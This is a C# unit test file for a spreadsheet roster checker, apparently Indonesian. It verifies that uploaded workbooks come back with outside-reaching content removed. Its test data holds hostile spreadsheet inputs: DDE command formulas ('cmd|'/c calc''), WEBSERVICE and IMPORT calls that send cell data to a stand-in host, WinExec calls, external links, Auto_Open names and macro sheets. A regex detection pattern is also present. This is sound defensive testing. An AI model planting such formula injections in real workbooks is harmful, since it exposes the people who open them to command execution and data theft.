using System.IO.Compression;
using System.Security;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;
using SertiKesos.Reference;
using SertiKesos.Rosters;
using SertiKesos.Rosters.Checks;
using SertiKesos.Rosters.Findings;
using SertiKesos.Sheets;
using SertiKesos.Tests.Support;
using SertiKesos.Workbooks.Receipts;

namespace SertiKesos.Tests.Workbooks;

/// <summary>One roster for each way in which a workbook may act on whoever opens it, and the receipt that comes back.</summary>
public sealed class ActingReceiptTests
{
    private const string Rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const string Rels = "http://schemas.openxmlformats.org/package/2006/relationships";
    private const string Evil = "contoh.invalid";

    public static TheoryData<string> Formulas =>
    [
        "cmd|'/c calc'!A1",
        $"WEBSERVICE(\"http://{Evil}/?\"&C2)",
        $"HYPERLINK(\"http://{Evil}\",\"PSM\")",
        "HYPERLINK(\"\\\\server\\share\\x\",\"PSM\")",
        $"IMPORTXML(\"http://{Evil}\",\"//a\")",
        $"IMPORTDATA(\"http://{Evil}\")",
        "RTD(\"prog.id\",\"server\",\"topik\")",
        "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
        "REGISTER.ID(\"kernel32\",\"WinExec\")",
        "_xlfn.FILTERXML(\"<a/>\",\"//b\")",
        "[1]Sheet!A1",
        "'C:\\data\\[x.xlsx]S'!A1",
        "'\\\\server\\share\\[x.xlsx]S'!A1",
        $"INDIRECT(\"'http://{Evil}/x.ods'#$S.A1\")",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_formula_that_reaches_outside_becomes_its_value(string formula)
    {
        var receipt = Receipt(Roster($"<c r=\"G2\" t=\"str\"><f>{SecurityElement.Escape(formula)}</f><v>Kelurahan</v></c>"));

        AssertHarmless(receipt);
        Assert.Equal("Kelurahan", WorkbookCells.Read(receipt).At("Data", "G2"));
        Assert.Null(Assert.Single(WorkbookCells.Read(receipt)["Data"], cell => cell.Address == "G2").Formula);
        Assert.Contains("1 rumus (Data G2)", Finding(receipt), StringComparison.Ordinal);
    }

    [Fact]
    public void A_formula_that_only_calculates_stays_and_nothing_is_said()
    {
        var receipt = Receipt(Roster("<c r=\"G2\" t=\"str\"><f>IF(A2&gt;0,\"Kelurahan\",'Data'!H2)</f><v>Kelurahan</v></c>"));

        AssertHarmless(receipt);
        Assert.Equal("IF(A2>0,\"Kelurahan\",'Data'!H2)", Assert.Single(WorkbookCells.Read(receipt)["Data"], cell => cell.Address == "G2").Formula);
        Assert.Empty(Finding(receipt));
    }

    [Fact]
    public void Cells_that_share_an_outside_formula_and_ones_in_arrays_become_values_as_well()
    {
        var receipt = Receipt(Roster(
            "<c r=\"G2\" t=\"str\"><f t=\"shared\" ref=\"G2:H2\" si=\"0\">cmd|'/c calc'!A1</f><v>Kelurahan</v></c><c r=\"H2\" t=\"str\"><f t=\"shared\" si=\"0\"/><v>0812 0000 1234</v></c>"
            + $"<c r=\"L2\" t=\"str\"><f t=\"array\" ref=\"L2\">WEBSERVICE(\"http://{Evil}\")</f><v>=1+1</v></c>"));

        AssertHarmless(receipt);
        Assert.Equal("0812 0000 1234", WorkbookCells.Read(receipt).At("Data", "H2"));
        Assert.Equal("=1+1", WorkbookCells.Read(receipt).At("Data", "L2"));
        Assert.Contains("3 rumus", Finding(receipt), StringComparison.Ordinal);
    }

    [Fact]
    public void Links_of_cells_go_unless_they_lead_to_a_place_of_the_workbook()
    {
        var receipt = Receipt(new Xlsx().RawSheet(
            "Data",
            $"<sheetData>{Xlsx.Rows(SmallRoster.Header, SmallRoster.Row(1))}</sheetData><hyperlinks><hyperlink ref=\"B2\" r:id=\"rId7\"/><hyperlink ref=\"C2\" r:id=\"rId8\" location=\"A1\"/><hyperlink ref=\"D2\" location=\"'\\\\server\\share\\[x.xlsx]S'!A1\"/><hyperlink ref=\"E2\" location=\"'Data'!A1\"/></hyperlinks>")
            .Part("xl/worksheets/_rels/sheet1.xml.rels", $"<Relationships xmlns=\"{Rels}\"><Relationship Id=\"rId7\" Type=\"{Rel}/hyperlink\" Target=\"http://{Evil}/\" TargetMode=\"External\"/><Relationship Id=\"rId8\" Type=\"{Rel}/hyperlink\" Target=\"file:///\\\\server\\share\\x.xlsx\" TargetMode=\"External\"/></Relationships>"));

        AssertHarmless(receipt);
        using var document = Open(receipt);
        Assert.Equal(["E2"], Sheet(document, "Data").Descendants<Hyperlink>().Select(link => link.Reference?.Value));
        Assert.Equal("Orang Contoh A", WorkbookCells.Read(receipt).At("Data", "B2"));
        Assert.Contains("tautan, aturan atau nama", Finding(receipt), StringComparison.Ordinal);
    }

    [Fact]
    public void Rules_and_names_that_reach_outside_go_and_the_others_stay()
    {
        var receipt = Receipt(new Xlsx().RawSheet(
            "Data",
            $"<sheetData>{Xlsx.Rows(SmallRoster.Header, SmallRoster.Row(1))}</sheetData>"
            + $"<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>WEBSERVICE(\"http://{Evil}\")=1</formula></cfRule></conditionalFormatting>"
            + "<conditionalFormatting sqref=\"A2\"><cfRule type=\"expression\" priority=\"2\"><formula>$A2&gt;3</formula></cfRule></conditionalFormatting>"
            + "<dataValidations count=\"2\"><dataValidation type=\"list\" sqref=\"E2\"><formula1>\"L,P\"</formula1></dataValidation><dataValidation type=\"list\" sqref=\"F2\"><formula1>'\\\\server\\share\\[x.xlsx]S'!A1:A3</formula1></dataValidation></dataValidations>")
            .Part("xl/workbook.xml", $"<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"{Rel}\"><sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets><definedNames><definedName name=\"Jauh\">cmd|'/c calc'!A1</definedName><definedName name=\"LewatJauh\">Jauh+1</definedName><definedName name=\"Dekat\">Data!$A$1</definedName><definedName name=\"LewatDekat\">Dekat+1</definedName><definedName name=\"Auto_Open\">Data!$A$1</definedName></definedNames></workbook>"));

        AssertHarmless(receipt);
        using var document = Open(receipt);
        Assert.Equal(["Dekat", "LewatDekat"], document.WorkbookPart!.Workbook.DefinedNames!.Elements<DefinedName>().Where(name => name.Name?.Value != "_xlnm.Print_Titles").Select(name => name.Name?.Value));
        Assert.Equal(["E2"], Sheet(document, "Data").Descendants<DataValidation>().Select(rule => rule.SequenceOfReferences?.InnerText));
        Assert.Contains("$A2>3", Sheet(document, "Data").Descendants<Formula>().Select(formula => formula.Text));
    }

    [Fact]
    public void Drawings_charts_and_add_ins_lose_what_leads_away()
    {
        const string drawing = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing";
        var receipt = Receipt(new Xlsx().RawSheet("Data", $"<sheetData>{Xlsx.Rows(SmallRoster.Header, SmallRoster.Row(1))}</sheetData><drawing r:id=\"rId9\"/>")
            .Part("xl/worksheets/_rels/sheet1.xml.rels", $"<Relationships xmlns=\"{Rels}\"><Relationship Id=\"rId9\" Type=\"{Rel}/drawing\" Target=\"../drawings/drawing1.xml\"/></Relationships>")
            .Part("xl/drawings/drawing1.xml", $"<xdr:wsDr xmlns:xdr=\"{drawing}\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"{Rel}\"><xdr:absoluteAnchor><xdr:pos x=\"0\" y=\"0\"/><xdr:ext cx=\"9\" cy=\"9\"/><xdr:sp macro=\"[0]!Jalan\" textlink=\"'\\\\server\\[x.xlsx]S'!A1\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"Kotak\"><a:hlinkClick r:id=\"rId1\"/></xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>")
            .Part("xl/drawings/_rels/drawing1.xml.rels", $"<Relationships xmlns=\"{Rels}\"><Relationship Id=\"rId1\" Type=\"{Rel}/hyperlink\" Target=\"http://{Evil}/\" TargetMode=\"External\"/></Relationships>")
            .Part("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/styles.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/><Override PartName=\"/xl/drawings/drawing1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.drawing+xml\"/><Override PartName=\"/xl/webextensions/taskpanes.xml\" ContentType=\"application/vnd.ms-office.webextensiontaskpanes+xml\"/></Types>")
            .Part("_rels/.rels", $"<Relationships xmlns=\"{Rels}\"><Relationship Id=\"rId1\" Type=\"{Rel}/officeDocument\" Target=\"xl/workbook.xml\"/><Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes\" Target=\"xl/webextensions/taskpanes.xml\"/></Relationships>")
            .Part("xl/webextensions/taskpanes.xml", "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\"/>"));

        AssertHarmless(receipt);
        Assert.Equal("Orang Contoh A", WorkbookCells.Read(receipt).At("Data", "B2"));
        Assert.Contains("tautan", Finding(receipt), StringComparison.Ordinal);
        using var zip = new ZipArchive(new MemoryStream(receipt));
        Assert.DoesNotContain(zip.Entries, entry => entry.FullName.Contains("webextension", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public void A_link_that_is_called_by_another_name_is_refused()
    {
        var roster = Xlsx.Of("Data", SmallRoster.Header, SmallRoster.Row(1))
            .Part("xl/biasa.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")
            .Part("xl/_rels/workbook.xml.rels", $"<Relationships xmlns=\"{Rels}\"><Relationship Id=\"rId1\" Type=\"{Rel}/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"rId2\" Type=\"{Rel}/externalLink\" Target=\"biasa.xml\"/></Relationships>");

        Assert.Equal(WorkbookProblem.ExternalContent, roster.Build().Refused());
        AssertHarmless(Receipt(roster));
    }

    [Theory]
    [InlineData("xlMacrosheet")]
    [InlineData("xlIntlMacrosheet")]
    public void Macros_that_are_called_sheets_are_refused(string type)
    {
        var roster = Xlsx.Of("Data", SmallRoster.Header, SmallRoster.Row(1))
            .Part("xl/worksheets/sheet2.xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>")
            .Part("xl/_rels/workbook.xml.rels", $"<Relationships xmlns=\"{Rels}\"><Relationship Id=\"rId1\" Type=\"{Rel}/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/{type}\" Target=\"worksheets/sheet2.xml\"/></Relationships>");

        Assert.Equal(WorkbookProblem.Macro, roster.Build().Refused());
    }

    [Theory]
    [InlineData("roster.csv", "No;Nama Lengkap;NIK;Jenis SDM\n1;Orang Contoh A;3277011708850001;=cmd|'/c calc'!A1\n2;\"=HYPERLINK(\"\"http://contoh.invalid\"\")\";3277011708850002;PSM")]
    [InlineData("roster.xls", "<html><table><tr><td>No</td><td>Nama Lengkap</td><td>NIK</td><td>Jenis SDM</td></tr><tr><td x:num=\"=cmd|'/c calc'!A1\">1E+5</td><td>=WEBSERVICE(\"http://contoh.invalid\")</td><td>3277011708850001</td><td>@SUM(A1)</td></tr></table></html>")]
    [InlineData("roster.xls", "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet ss:Name=\"Data\"><Table><Row><Cell><Data ss:Type=\"String\">Nama Lengkap</Data></Cell><Cell><Data ss:Type=\"String\">NIK</Data></Cell></Row><Row><Cell ss:Formula=\"=cmd|'/c calc'!A1\"><Data ss:Type=\"String\">=1+1</Data></Cell><Cell ss:HRef=\"http://contoh.invalid\"><Data ss:Type=\"Error\">#cmd</Data></Cell></Row></Table></Worksheet></Workbook>")]
    public void Other_formats_come_back_as_text(string name, string content)
    {
        var receipt = Receipt(Encoding.UTF8.GetBytes(content), name);

        AssertHarmless(receipt);
        using var document = Open(receipt);
        Assert.Empty(new OpenXmlValidator().Validate(document).Select(error => $"{error.Path?.XPath} {error.Description}"));
    }

    private static Xlsx Roster(string cells) => new Xlsx().RawSheet(
        "Data", $"<sheetData>{Xlsx.Row(1, SmallRoster.Header)}{Xlsx.Row(2, SmallRoster.Row(1)[..6]).Replace("</row>", cells + "</row>", StringComparison.Ordinal)}</sheetData>");

    private static byte[] Receipt(Xlsx roster) => Receipt(roster.Build().Content, "roster.xlsx");

    private static byte[] Receipt(byte[] content, string name)
    {
        var file = new RosterFile(name, content);
        var check = RosterCheck.Run(file, SmallRoster.Cimahi, SmallRoster.Today, RulesInForce.Default, CancellationToken.None);
        return RosterAnswer.Write(file, check, check.Outcome, change: null);
    }

    private static SpreadsheetDocument Open(byte[] receipt) => SpreadsheetDocument.Open(new MemoryStream(receipt), isEditable: false);

    private static Worksheet Sheet(SpreadsheetDocument document, string name) =>
        ((WorksheetPart)document.WorkbookPart!.GetPartById(document.WorkbookPart.Workbook.Descendants<Sheet>().Single(sheet => sheet.Name == name).Id!)).Worksheet;

    private static string Finding(byte[] receipt)
    {
        var cells = WorkbookCells.Read(receipt);
        var row = cells["Perbaikan"].LastOrDefault(cell => cell.Text == FindingCatalog.OutsideRemoved.Code)?.Row;
        return row is { } number ? cells.Row("Perbaikan", number)["J"] : "";
    }

    private static void AssertHarmless(byte[] receipt)
    {
        using (var document = Open(receipt))
        {
            Assert.Empty(Containers(document).SelectMany(part => part.ExternalRelationships));
            Assert.DoesNotContain(Containers(document).SelectMany(part => part.HyperlinkRelationships), link => link.IsExternal);
        }

        AssertTextsMarked(receipt);
        using var zip = new ZipArchive(new MemoryStream(receipt));
        foreach (var entry in zip.Entries)
        {
            using var reader = new StreamReader(entry.Open());
            var text = reader.ReadToEnd();
            Assert.DoesNotContain("TargetMode=\"External\"", text, StringComparison.Ordinal);
            Assert.DoesNotMatch(@"<(?:\w+:)?(?:f|formula\d?|definedName)\b[^>]*>[^<]*(?:\||\[|HYPERLINK|WEBSERVICE|contoh\.invalid|\\\\|RTD|CALL|REGISTER|FILTERXML|IMPORT)", text);
            Assert.DoesNotContain("hlinkClick", text, StringComparison.Ordinal);
            Assert.DoesNotMatch("(?:macro|textlink)=\"[^\"]", text);
        }
    }

    /// <summary>Each string that begins like a formula has the mark of text.</summary>
    internal static void AssertTextsMarked(byte[] workbook)
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(workbook), isEditable: false);
        var book = document.WorkbookPart!;
        var strings = book.SharedStringTablePart?.SharedStringTable.Elements<SharedStringItem>().Select(item => item.InnerText).ToList() ?? [];
        var formats = book.WorkbookStylesPart?.Stylesheet.CellFormats?.Elements<CellFormat>().ToList() ?? [];
        foreach (var cell in book.WorksheetParts.SelectMany(part => part.Worksheet.Descendants<Cell>()).Where(cell => cell.CellFormula is null))
        {
            var text = cell.DataType?.Value switch
            {
                CellValues.SharedString => strings[int.Parse(cell.CellValue!.Text, System.Globalization.CultureInfo.InvariantCulture)],
                CellValues.InlineString => cell.InlineString!.InnerText,
                CellValues.String => cell.CellValue?.Text ?? "",
                _ => "",
            };
            if (text.Length > 0 && "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20".Contains(text[0], StringComparison.Ordinal))
            {
                Assert.True(formats[(int)(cell.StyleIndex?.Value ?? 0)].QuotePrefix?.Value, $"{cell.CellReference} begins like a formula and is not marked as text.");
            }
        }
    }

    private static IEnumerable<OpenXmlPartContainer> Containers(SpreadsheetDocument document)
    {
        var found = new List<OpenXmlPartContainer> { document };
        for (var at = 0; at < found.Count; at++)
        {
            found.AddRange(found[at].Parts.Select(pair => pair.OpenXmlPart).Where(part => !found.Contains(part)));
        }

        return found;
    }
}
